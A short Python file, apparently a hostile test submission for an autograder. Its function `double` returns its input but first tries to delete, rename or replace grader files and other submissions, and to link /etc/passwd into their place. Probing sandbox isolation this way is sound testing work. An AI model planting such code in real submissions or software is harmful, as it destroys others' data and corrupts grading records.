"""Removes the submissions and the course, or moves them away and links its own into their place."""
# bites: leftover
import os


def double(x):
    for folder in ("/tmp/hostile/submissions", "/tmp/hostile/graded", "/srv/grader", "/tmp"):
        for name in ("aaa_honest", "results.sqlite", "notes.txt", "hostile-secret.txt"):
            path = os.path.join(folder, name)
            for change in (
                lambda: os.rename(path, path + ".away"),
                lambda: os.unlink(path),
                lambda: os.symlink("/etc/passwd", path),
                lambda: os.link("/etc/passwd", path + ".link"),
            ):
                try:
                    change()
                except OSError:
                    pass
    return x
